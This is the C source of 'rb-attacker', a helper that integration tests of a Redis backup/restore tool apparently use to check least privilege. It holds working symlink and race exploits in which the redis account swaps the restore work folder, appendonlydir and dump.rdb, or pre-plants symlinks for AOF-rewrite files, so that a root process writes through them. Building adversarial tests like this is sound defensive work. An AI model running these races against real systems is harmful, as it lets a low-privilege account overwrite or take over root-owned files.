/*
 * The attacker of the least-privilege tests (tests/integration/least_privilege.rs).
 *
 * Run by the tests as the unprivileged user that owns the Redis data dir
 * (setpriv --reuid --regid --clear-groups), never as root: everything it does,
 * the redis account could do. Each mode prepares what it needs, creates the
 * file READY (the test waits for it before running the tool), then races the
 * root-run tool, by inotify on the data dir (it acts the instant a name
 * appears) or by tight polling, and says what it did on stdout, one line per
 * move. It runs until it is killed.
 *
 * usage: rb-attacker MODE READY DATA_DIR ARGS...
 *
 *   swap-workdir READY DATA VICTIM PREVIOUS FAILED
 *       When restore's work folder (redis-backup-restore-*) appears, wait for
 *       the next event in the data dir (Redis stopping: its shutdown save),
 *       rename the folder away and put one of our own in its place, with
 *       incoming.rdb a symlink to VICTIM, previous/ a symlink to PREVIOUS and
 *       failed/ one to FAILED (or, for "-", previous/ a directory of ours and
 *       no failed/).
 *
 *   aof-dir READY DATA symlink|entry VICTIM_DIR VICTIM_FILE
 *       When appendonlydir is created anew (the AOF rebuild) and its manifest
 *       is written, exchange it (renameat2 RENAME_EXCHANGE, atomic) for
 *         symlink: a symlink to VICTIM_DIR, with appendonly.aof (the pre-7
 *                  AOF name, so the rebuild still looks finished) a symlink
 *                  to VICTIM_FILE;
 *         entry:   a directory of ours holding copies of its files plus
 *                  appendonly.aof.9.incr.aof, a symlink to VICTIM_FILE.
 *
 *   plant-rewrite READY DATA VICTIM
 *       Keep temp-rewriteaof-<pid>.aof and temp-rewriteaof-bg-<pid>.aof
 *       symlinks to VICTIM planted in the data dir for the next 1000 pids the
 *       kernel will hand out (polling /proc/sys/kernel/ns_last_pid), so that
 *       the AOF rewrite child of any redis-server working there writes
 *       through them.
 *
 *   swap-dump READY DATA TARGET
 *       Each time Redis renames a fresh dump.rdb into place (IN_MOVED_TO),
 *       replace it at once (rename of a prepared symlink) with a symlink to
 *       TARGET.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

#define WORK_PREFIX "redis-backup-restore-"
#define AOF_DIR "appendonlydir"
#define AOF_MANIFEST "appendonly.aof.manifest"
#define DUMP "dump.rdb"

static void say(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    putchar('\n');
    fflush(stdout);
}

__attribute__((noreturn)) static void die(const char *what)
{
    say("error: %s: %s", what, strerror(errno));
    exit(2);
}

/* Tell the test we are armed. */
static void armed(const char *ready)
{
    int fd = open(ready, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0)
        die(ready);
    close(fd);
    say("armed (uid %d, gid %d)", (int)getuid(), (int)getgid());
}

__attribute__((noreturn)) static void idle_forever(void)
{
    for (;;)
        pause();
}

static void in_dir(const char *dir)
{
    if (chdir(dir) != 0)
        die(dir);
}

static int starts_with(const char *s, const char *prefix)
{
    return strncmp(s, prefix, strlen(prefix)) == 0;
}

/* inotify events, one at a time. */
struct events {
    int fd;
    ssize_t len, pos;
    char buf[64 * 1024] __attribute__((aligned(__alignof__(struct inotify_event))));
};

static struct events *events_new(void)
{
    struct events *e = calloc(1, sizeof *e);
    if (!e)
        die("calloc");
    e->fd = inotify_init1(IN_CLOEXEC);
    if (e->fd < 0)
        die("inotify_init1");
    return e;
}

static int watch(struct events *e, const char *path, uint32_t mask)
{
    int wd = inotify_add_watch(e->fd, path, mask);
    if (wd < 0)
        die(path);
    return wd;
}

static struct inotify_event *next_event(struct events *e)
{
    if (e->pos >= e->len) {
        do
            e->len = read(e->fd, e->buf, sizeof e->buf);
        while (e->len < 0 && errno == EINTR);
        if (e->len <= 0)
            die("read inotify");
        e->pos = 0;
    }
    struct inotify_event *ev = (struct inotify_event *)(e->buf + e->pos);
    e->pos += sizeof *ev + ev->len;
    if (ev->mask & IN_Q_OVERFLOW)
        say("warning: inotify queue overflow");
    return ev;
}

static void symlink_or_die(const char *target, const char *path)
{
    if (symlink(target, path) != 0)
        die(path);
}

/* ------------------------------------------------------------------------ */

static int swap_workdir(char **a)
{
    const char *victim = a[1], *previous = a[2], *failed = a[3];
    in_dir(a[0]);
    struct events *e = events_new();
    watch(e, ".", IN_CREATE | IN_MOVED_FROM | IN_MOVED_TO | IN_DELETE);
    armed(a[-1]);
    char work[NAME_MAX + 1] = "";
    for (;;) {
        struct inotify_event *ev = next_event(e);
        if (!ev->len)
            continue;
        if (!work[0]) {
            if ((ev->mask & IN_CREATE) && (ev->mask & IN_ISDIR) && starts_with(ev->name, WORK_PREFIX)) {
                snprintf(work, sizeof work, "%s", ev->name);
                say("restore created its work folder %s", work);
            }
            continue;
        }
        if (strcmp(ev->name, work) == 0)
            continue;
        say("%s in the data dir (0x%x): staging is over; swapping the work folder", ev->name, ev->mask);
        char path[PATH_MAX];
        snprintf(path, sizeof path, ".stolen-%s", work);
        if (rename(work, path) != 0)
            die("rename the work folder away");
        if (mkdir(work, 0755) != 0)
            die("mkdir our work folder");
        snprintf(path, sizeof path, "%s/previous", work);
        if (strcmp(previous, "-") == 0) {
            if (mkdir(path, 0777) != 0)
                die(path);
        } else {
            symlink_or_die(previous, path);
        }
        if (strcmp(failed, "-") != 0) {
            snprintf(path, sizeof path, "%s/failed", work);
            symlink_or_die(failed, path);
        }
        snprintf(path, sizeof path, "%s/incoming.rdb", work);
        symlink_or_die(victim, path);
        say("swapped: %s is ours, incoming.rdb -> %s, previous -> %s, failed -> %s", work, victim, previous,
            failed);
        idle_forever();
    }
    return 0;
}

/* ------------------------------------------------------------------------ */

static void copy_file(const char *from, const char *to)
{
    int in = open(from, O_RDONLY | O_CLOEXEC);
    if (in < 0)
        die(from);
    int out = open(to, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    if (out < 0)
        die(to);
    char buf[64 * 1024];
    ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, n) != n)
            die(to);
    if (n < 0)
        die(from);
    close(in);
    close(out);
}

static int aof_dir(char **a)
{
    const char *mode = a[1], *victim_dir = a[2], *victim_file = a[3];
    if (strcmp(mode, "symlink") != 0 && strcmp(mode, "entry") != 0) {
        say("error: unknown aof-dir mode %s", mode);
        return 2;
    }
    in_dir(a[0]);
    struct events *e = events_new();
    int wd_data = watch(e, ".", IN_CREATE);
    armed(a[-1]);
    int wd_aof = -1;
    for (;;) {
        struct inotify_event *ev = next_event(e);
        if (!ev->len)
            continue;
        if (ev->wd == wd_data && (ev->mask & IN_ISDIR) && strcmp(ev->name, AOF_DIR) == 0) {
            wd_aof = inotify_add_watch(e->fd, AOF_DIR, IN_MOVED_TO | IN_CLOSE_WRITE);
            if (wd_aof < 0) {
                say("cannot watch the new %s: %s", AOF_DIR, strerror(errno));
                continue;
            }
            say("%s was created anew", AOF_DIR);
            if (access(AOF_DIR "/" AOF_MANIFEST, F_OK) == 0)
                break;
            continue;
        }
        if (ev->wd == wd_aof && strcmp(ev->name, AOF_MANIFEST) == 0)
            break;
    }
    say("its manifest is written");
    if (strcmp(mode, "symlink") == 0) {
        symlink_or_die(victim_file, ".aof-file-link");
        if (rename(".aof-file-link", "appendonly.aof") != 0)
            die("rename onto appendonly.aof");
        symlink_or_die(victim_dir, ".aof-dir-link");
        if (renameat2(AT_FDCWD, ".aof-dir-link", AT_FDCWD, AOF_DIR, RENAME_EXCHANGE) != 0)
            die("exchange " AOF_DIR);
        say("swapped: %s -> %s, appendonly.aof -> %s", AOF_DIR, victim_dir, victim_file);
    } else {
        if (mkdir(".aof-copy", 0755) != 0)
            die("mkdir .aof-copy");
        DIR *d = opendir(AOF_DIR);
        if (!d)
            die(AOF_DIR);
        struct dirent *de;
        while ((de = readdir(d)) != NULL) {
            char from[PATH_MAX], to[PATH_MAX];
            struct stat st;
            snprintf(from, sizeof from, "%s/%s", AOF_DIR, de->d_name);
            if (lstat(from, &st) != 0 || !S_ISREG(st.st_mode))
                continue;
            snprintf(to, sizeof to, ".aof-copy/%s", de->d_name);
            copy_file(from, to);
            say("copied %s", de->d_name);
        }
        closedir(d);
        symlink_or_die(victim_file, ".aof-copy/appendonly.aof.9.incr.aof");
        if (renameat2(AT_FDCWD, ".aof-copy", AT_FDCWD, AOF_DIR, RENAME_EXCHANGE) != 0)
            die("exchange " AOF_DIR);
        say("swapped: %s is ours, with appendonly.aof.9.incr.aof -> %s", AOF_DIR, victim_file);
    }
    idle_forever();
    return 0;
}

/* ------------------------------------------------------------------------ */

static long read_long(const char *path)
{
    FILE *f = fopen(path, "re");
    if (!f)
        die(path);
    long v;
    if (fscanf(f, "%ld", &v) != 1) {
        errno = EINVAL;
        die(path);
    }
    fclose(f);
    return v;
}

#define AHEAD 1000
/* Where the kernel's pid numbers start again after pid_max. */
#define PID_WRAP_TO 300

static int plant_rewrite(char **a)
{
    const char *victim = a[1];
    in_dir(a[0]);
    long pid_max = read_long("/proc/sys/kernel/pid_max");
    long last = read_long("/proc/sys/kernel/ns_last_pid");
    /* Pids as a count that never wraps (u_*), and the real next one. */
    long long u_last = 0, u_next = 1;
    long next = last + 1 >= pid_max ? PID_WRAP_TO : last + 1;
    long planted = 0;
    int is_armed = 0;
    for (;;) {
        while (u_next <= u_last + AHEAD) {
            char name[64];
            snprintf(name, sizeof name, "temp-rewriteaof-%ld.aof", next);
            if (symlink(victim, name) == 0)
                planted++;
            snprintf(name, sizeof name, "temp-rewriteaof-bg-%ld.aof", next);
            if (symlink(victim, name) == 0)
                planted++;
            next = next + 1 >= pid_max ? PID_WRAP_TO : next + 1;
            u_next++;
        }
        if (!is_armed) {
            say("planted %ld symlinks from pid %ld on", planted, last + 1);
            armed(a[-1]);
            is_armed = 1;
        }
        usleep(200);
        long now = read_long("/proc/sys/kernel/ns_last_pid");
        long delta = now - last;
        if (delta < 0)
            delta += pid_max - PID_WRAP_TO;
        u_last += delta;
        last = now;
    }
    return 0;
}

/* ------------------------------------------------------------------------ */

static void prepare_dump_link(const char *target)
{
    unlink(".evil-dump");
    symlink_or_die(target, ".evil-dump");
}

static int swap_dump(char **a)
{
    const char *target = a[1];
    in_dir(a[0]);
    prepare_dump_link(target);
    struct events *e = events_new();
    watch(e, ".", IN_MOVED_TO);
    armed(a[-1]);
    int swaps = 0;
    for (;;) {
        struct inotify_event *ev = next_event(e);
        if (!ev->len || strcmp(ev->name, DUMP) != 0)
            continue;
        struct stat st;
        if (lstat(DUMP, &st) != 0 || !S_ISREG(st.st_mode))
            continue; /* our own rename, or already gone */
        if (rename(".evil-dump", DUMP) != 0) {
            say("could not swap %s: %s", DUMP, strerror(errno));
        } else {
            say("swapped %s for a symlink to %s (%d)", DUMP, target, ++swaps);
        }
        prepare_dump_link(target);
    }
    return 0;
}

/* ------------------------------------------------------------------------ */

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (getuid() == 0 || geteuid() == 0) {
        fprintf(stderr, "rb-attacker: refusing to run as root; it plays the redis account\n");
        return 2;
    }
    struct {
        const char *name;
        int args;
        int (*run)(char **);
    } modes[] = {
        {"swap-workdir", 4, swap_workdir},
        {"aof-dir", 4, aof_dir},
        {"plant-rewrite", 2, plant_rewrite},
        {"swap-dump", 2, swap_dump},
    };
    for (size_t i = 0; argc >= 3 && i < sizeof modes / sizeof modes[0]; i++) {
        if (strcmp(argv[1], modes[i].name) != 0)
            continue;
        if (argc != 3 + modes[i].args) {
            fprintf(stderr, "rb-attacker %s: %d arguments after READY expected\n", modes[i].name, modes[i].args);
            return 2;
        }
        /* argv[2] is READY, found as a[-1] by the modes. */
        return modes[i].run(argv + 3);
    }
    fprintf(stderr, "usage: rb-attacker swap-workdir|aof-dir|plant-rewrite|swap-dump READY DATA_DIR ARGS...\n");
    return 2;
}
